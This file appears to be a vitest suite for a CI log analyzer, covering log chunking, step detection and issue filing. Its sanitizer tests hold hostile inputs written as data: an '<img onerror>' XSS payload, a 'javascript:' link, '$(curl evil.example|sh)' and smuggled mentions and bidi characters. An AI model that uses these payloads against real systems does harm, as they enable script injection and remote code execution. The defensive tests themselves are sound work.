import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { CI_WRAP_FORMATS, wrapInCi } from '../../fixtures/src/ci-wrap.js';
import { listEcosystemCases } from '../../fixtures/src/ecosystems.js';
import { type Analysis, analyzeLog } from '../src/analyzer/analyze.js';
import { factLines, nextStep } from '../src/filing/issue-body.js';
import { batchLine, DEFAULT_MAX_LINE_BYTES, LineSplitter } from '../src/log/lines.js';
import { createSanitizer } from '../src/text/sanitize.js';
import { seededRandom } from './seeded-random.js';

/**
 * This session's analyzer changes attacked from outside, as a fork's job could: each test here
 * failed before the fix beside it (see the review20 report for the inputs that held).
 */

/** The analysis without its timing, for comparing. */
function result(a: Analysis): unknown {
  const { durationMs: _, ...stats } = a.stats;
  return { ...a, stats };
}

async function* chunks(bytes: Buffer, size: number): AsyncGenerator<Uint8Array> {
  for (let i = 0; i < bytes.length; i += size) yield bytes.subarray(i, i + size);
}

const ts = (log: string) =>
  log
    .split('\n')
    .map((l) => (l === '' ? l : `2024-05-01T10:00:00.1234567Z ${l}`))
    .join('\n');

describe('a failed step that printed nothing', () => {
  // The runner's exit line is no longer shown (weight 0.2), so the last words stand in for it.
  const silent = ts(
    [
      '##[group]Run actions/checkout@v4',
      'with:',
      '  repository: octo/app',
      '##[endgroup]',
      'Syncing repository: octo/app',
      '##[group]Run test -f generated/schema.json',
      '\u001b[36;1mtest -f generated/schema.json\u001b[0m',
      'shell: /usr/bin/bash -e {0}',
      '##[endgroup]',
      '##[error]Process completed with exit code 1.',
      'Post job cleanup.',
      '[command]/usr/bin/git version',
      'git version 2.45.1',
      "Temporarily overriding HOME='/home/runner/work/_temp/x' before making global git config changes",
      'Cleaning up orphan processes',
      '',
    ].join('\n'),
  );

  it('shows its own last lines, not the post-job cleanup every job prints', async () => {
    const a = await analyzeLog(silent);
    expect(a.findings).toHaveLength(1);
    const f = a.findings[0]!;
    expect(f.step).toBe('test -f generated/schema.json');
    const shown = f.excerpt.map((l) => l.text);
    // The cleanup is the same in every job: as the key line it would fingerprint every silent
    // failure alike and file them all into one issue.
    expect(shown.join('\n')).not.toMatch(/orphan|git version|Temporarily overriding/);
    expect(shown).toContain('test -f generated/schema.json');
    expect(f.keyLine).toBe('##[error]Process completed with exit code 1.');
  });

  it("shows its own last lines, not an `if: always()` step's nor the runner's closing line", async () => {
    const step = [
      '##[group]Run test -f generated/schema.json',
      'test -f generated/schema.json',
      'shell: /usr/bin/bash -e {0}',
      '##[endgroup]',
      '##[error]Process completed with exit code 1.',
    ];
    for (const after of [
      [
        '##[group]Run actions/upload-artifact@v4',
        'With the provided path, there will be 1 file uploaded',
        '##[endgroup]',
      ],
      // A job of `run:` steps only has no post steps: the runner's last line follows at once.
      ['Cleaning up orphan processes'],
    ]) {
      const a = await analyzeLog(ts([...step, ...after, ''].join('\n')));
      const f = a.findings[0]!;
      expect(f.excerpt.map((l) => l.text)).toEqual([
        'test -f generated/schema.json',
        'shell: /usr/bin/bash -e {0}',
        '##[error]Process completed with exit code 1.',
      ]);
    }
  });

  for (const format of CI_WRAP_FORMATS) {
    it(`${format}: shows the command and its exit, not what ran after it`, async () => {
      const w = wrapInCi(format, { command: 'test -f generated/schema.json', output: '', exit: 1 });
      const a = await analyzeLog(w.text);
      const shown = a.findings.flatMap((f) => f.excerpt.map((l) => l.text));
      // What each wrapping prints after a failure: coverage upload, artifact hooks, cleanup.
      expect(shown.join('\n')).not.toMatch(
        /coverage|codecov|No files|No test results|artifact|Cleaning up|cleaning up|Finalize Job|End of Pipeline/,
      );
      if (format !== 'azure')
        expect(shown.some((t) => t.includes('test -f generated/schema.json'))).toBe(true);
    });
  }

  it('shows the exit line when the log is only the exit line and the cleanup', async () => {
    const a = await analyzeLog(
      '##[error]Process completed with exit code 1.\nPost job cleanup.\nCleaning up orphan processes\n',
    );
    expect(a.findings[0]?.excerpt.map((l) => l.text)).toEqual([
      '##[error]Process completed with exit code 1.',
    ]);
  });
});

describe('chunk boundaries', () => {
  /** Lines as the splitter gives them, fed in pieces of `size` bytes. */
  function split(bytes: Buffer, size: number): string[] {
    const splitter = new LineSplitter();
    const out: string[] = [];
    const take = (b: ReturnType<LineSplitter['push']>) => {
      for (let i = 0; i < b.starts.length; i++) out.push(batchLine(b, i));
    };
    for (let i = 0; i < bytes.length; i += size) take(splitter.push(bytes.subarray(i, i + size)));
    take(splitter.end());
    return out;
  }

  it('cuts an overlong line at the same place whatever the chunks', () => {
    // The byte just past the cap is a blank: fed whole the cut is at a word's end and keeps the
    // word; a chunk that ended at the cap used to lose that byte and drop the word as if cut.
    const line = 'word '.repeat(4000);
    expect(line[DEFAULT_MAX_LINE_BYTES]).toBe(' ');
    const bytes = Buffer.from(`${line}\nnext\n${line}`);
    const whole = split(bytes, bytes.length);
    expect(whole[0]!.length).toBe(DEFAULT_MAX_LINE_BYTES);
    for (const size of [1, 7, 4096, DEFAULT_MAX_LINE_BYTES, DEFAULT_MAX_LINE_BYTES + 1])
      expect(split(bytes, size), `chunks of ${size}`).toEqual(whole);
  });

  it('splits random text with \\r, \\n, \\r\\n, blanks and multi-byte characters alike in random chunks', () => {
    // Seeded, so a failure reproduces; a small cap makes cut lines common.
    const random = seededRandom(20);
    const pick = (n: number) => Math.floor(random() * n);
    const alphabet = ['a', 'a', 'a', ' ', '\r', '\n', '\r\n', 'é', '"'];
    const lines = (bytes: Buffer, cuts: number[], max: number) => {
      const splitter = new LineSplitter({ maxLineBytes: max });
      const out: string[] = [];
      const take = (b: ReturnType<LineSplitter['push']>) => {
        for (let i = 0; i < b.starts.length; i++)
          out.push(`${b.first + i}:${batchLine(b, i)}${b.truncated.includes(i) ? ' (cut)' : ''}`);
      };
      let from = 0;
      for (const cut of [...cuts, bytes.length]) {
        take(splitter.push(bytes.subarray(from, cut)));
        from = cut;
      }
      take(splitter.end());
      return out;
    };
    let cutLines = 0;
    for (let k = 0; k < 3000; k++) {
      let text = '';
      for (let i = 1 + pick(80); i > 0; i--)
        text += alphabet[pick(alphabet.length)]!.repeat(pick(4) === 0 ? 1 + pick(30) : 1);
      const bytes = Buffer.from(text);
      const max = 4 + pick(12);
      const cuts: number[] = [];
      for (let at = 1 + pick(8); at < bytes.length; at += 1 + pick(8)) cuts.push(at);
      const whole = lines(bytes, [], max);
      cutLines += whole.filter((l) => l.endsWith(' (cut)')).length;
      expect(lines(bytes, cuts, max), JSON.stringify({ text, max, cuts })).toEqual(whole);
    }
    expect(cutLines).toBeGreaterThan(1000);
  });

  it('gives the same analysis of an overlong key line whatever the chunks', async () => {
    // `Error: ab ` puts a blank right after the cap again; the line is the finding's key line.
    const line = `Error: ab ${'word '.repeat(4000)}`;
    expect(line[DEFAULT_MAX_LINE_BYTES]).toBe(' ');
    const bytes = Buffer.from(
      `make: *** [all] Error 2\n${line}\n##[error]Process completed with exit code 2.\n`,
    );
    const whole = result(await analyzeLog(bytes));
    for (const size of [1, 7, 4096])
      expect(result(await analyzeLog(chunks(bytes, size))), `chunks of ${size}`).toEqual(whole);
  });
});

describe('Buildkite: a hook name printed by the command', () => {
  const pytest = listEcosystemCases().find((c) => c.id === 'python/pytest-assert')!;

  for (const hook of [
    '~~~ Running global pre-exit hook',
    '~~~ Running plugin docker-compose post-command hook',
    '~~~ Running global pre-command hook',
  ]) {
    it(`"${hook}" before the failure does not take the failure out of the command's step`, async () => {
      const real = readFileSync(pytest.log, 'utf8').replace(/\n$/, '');
      const w = wrapInCi('buildkite', { command: pytest.command, output: `${hook}\n${real}\n`, exit: 1 });
      const a = await analyzeLog(w.text);
      const shown = a.findings.flatMap((f) =>
        f.lines.flatMap((r) => Array.from({ length: r.end - r.start + 1 }, (_, i) => r.start + i)),
      );
      const gold = [...pytest.gold].map((n) => n + w.offset + 1);
      expect(gold.filter((g) => !shown.includes(g))).toEqual([]);
      expect(a.stats.failingStep).toBe(pytest.command);
      expect(a.findings[0]?.rule).toBe('pytest.failed');
    });
  }
});

describe('recorded logs fed in chunks', () => {
  // The ecosystems this session's rules and structure changes touched, and the CI wrappings.
  const touched = new Set([
    'js',
    'scala',
    'dart',
    'swift',
    'elixir',
    'php',
    'octave',
    'lisp',
    'install',
    'c',
    'julia',
    'nix',
  ]);
  const cases = listEcosystemCases().filter((c) => touched.has(c.ecosystem));

  it('analyse alike whole and in chunks of 1, 7 and 4096 bytes, wrapped in each CI format too', async () => {
    expect(cases.length).toBeGreaterThan(100);
    let compared = 0;
    for (const c of cases) {
      const output = readFileSync(c.log, 'utf8');
      const texts = [
        output,
        ...CI_WRAP_FORMATS.map((f) => wrapInCi(f, { command: c.command, output, exit: c.exit || 1 }).text),
      ];
      for (const [i, text] of texts.entries()) {
        const bytes = Buffer.from(text);
        const whole = result(await analyzeLog(bytes));
        // Single bytes cost a push each: the small logs, unwrapped, are enough for the carry paths;
        // the wrappings add their markup's boundaries at one odd size.
        const sizes = i > 0 ? [7] : bytes.length < 8192 ? [1, 7, 4096] : [7, 4096];
        for (const size of sizes) {
          expect(result(await analyzeLog(chunks(bytes, size))), `${c.id} #${i} in chunks of ${size}`).toEqual(
            whole,
          );
          compared++;
        }
      }
    }
    expect(compared).toBeGreaterThan(1000);
  }, 60_000);
});

describe("new rules' facts reach an issue only through the sanitizer", () => {
  it('TeamCity escapes decoded into a test name (line breaks, bidi, NUL, a lone surrogate) stay inert', async () => {
    const log =
      "##teamcity[testFailed name='t|n## Pwned|n@maintainer |0x202e|0x0000|0xd800 <img src=x onerror=alert(1)>' message='boom']\n";
    const a = await analyzeLog(log);
    const f = a.findings[0]!;
    expect(f.rule).toBe('teamcity.test-failed');
    // The fact holds what the log encoded: the test below is about the output, not a lucky miss.
    expect(f.facts?.tests?.[0]).toContain('\n## Pwned\n@maintainer \u202e\u0000\ud800');
    const s = createSanitizer();
    const items = factLines(s, f.facts);
    const item = items.find((l) => l.includes('Pwned'))!;
    expect(items.every((l) => !/[\r\n]/.test(l))).toBe(true);
    expect(item).not.toMatch(/[\u0000\u202a-\u202e\u2066-\u2069]|[\ud800-\udfff]/);
    expect(item).not.toMatch(/(^|[^\w`])@maintainer\b/);
    expect(item).not.toMatch(/<img/);
  });

  it('paths, package and test names the new rules capture carry no live markup into facts or next steps', async () => {
    const E =
      '@maintainer <img src=x onerror=alert(1)> [x](javascript:alert(1)) $(curl evil.example|sh) #123';
    const logs = [
      `[!] CocoaPods could not find compatible versions for pod "${E}":\n  In Podfile:\n    X\n`,
      `[info] - should ${E} *** FAILED ***\n[info]   1 did not equal 2 (X.scala:10)\n`,
      `[error] /w/src/@maintainer<img>.scala:3:5: ${E}\n`,
      `00:01 +0 -1: loading test/@maintainer<img>$(x).dart [E]\n`,
      `::group::❌ ${E} (failed)\n`,
      `lib/@maintainer<img>.dart:1:2: Error: ${E}\n`,
      `src/@maintainer<b>x</b>.coffee:7:1: error: ${E}\n`,
      `✘ Test ${E} recorded an issue at Evil.swift:9:5: ${E}\n`,
    ];
    const s = createSanitizer();
    for (const log of logs) {
      const a = await analyzeLog(log);
      const f = a.findings[0]!;
      expect(JSON.stringify(f.facts), log).toMatch(/@maintainer/);
      const out = [...factLines(s, f.facts), nextStep(s, a.category, f.facts)].join('\n');
      expect(out, log).not.toMatch(/(^|[^\w`])@maintainer\b|<img|<b>|\]\(javascript:|\$\(|(^|[^\w&`])#123\b/);
    }
  });
});

describe("another CI's marker in a GitHub job log's first lines", () => {
  // A job name, a step name or a step's first output can hold `travis_fold:` or `section_start:`;
  // the runner's own first line says whose log it is, and its `##[group]`/`##[error]` lines stay read.
  for (const marker of [
    'travis_fold:start:x',
    'section_start:1:x',
    '##[section]Starting: x',
    '[Pipeline] sh',
  ]) {
    it(`"${marker}" printed by the job does not make it another CI's log`, async () => {
      const log = ts(
        [
          "Current runner version: '2.316.0'",
          '##[group]Operating System',
          'Ubuntu',
          '##[endgroup]',
          '##[group]Run ./ci.sh',
          './ci.sh',
          'shell: /usr/bin/bash -e {0}',
          '##[endgroup]',
          marker,
          '##[error]Process completed with exit code 1.',
          'Post job cleanup.',
          'Cleaning up orphan processes',
          '',
        ].join('\n'),
      );
      const a = await analyzeLog(log);
      expect(a.stats.format).toBe('github-raw');
      expect(a.stats.failingStep).toBe('./ci.sh');
      // What is shown is the failing step's (lines 5-10), not the runner's setup nor its cleanup.
      const shown = a.findings.flatMap((f) => f.excerpt.map((l) => l.no));
      expect(shown.length).toBeGreaterThan(0);
      expect(shown.every((no) => no >= 5 && no <= 10)).toBe(true);
    });
  }
});

describe('a GitHub log without timestamps whose step ran `set -x`', () => {
  it("is read as GitHub's: the step's last words, not the post-job cleanup, are shown", async () => {
    const log = [
      '##[group]Run set -x; make test',
      'set -x; make test',
      'shell: /usr/bin/bash -e {0}',
      '##[endgroup]',
      '+ make test',
      'cc -o x x.c',
      '+ ./x',
      '##[error]Process completed with exit code 1.',
      'Post job cleanup.',
      'Cleaning up orphan processes',
      '',
    ].join('\n');
    const a = await analyzeLog(log);
    expect(a.stats.failingStep).toBe('set -x; make test');
    const shown = a.findings.flatMap((f) => f.excerpt.map((l) => l.text));
    expect(shown).toContain('+ ./x');
    expect(shown.join('\n')).not.toMatch(/Post job cleanup|orphan/);
  });
});
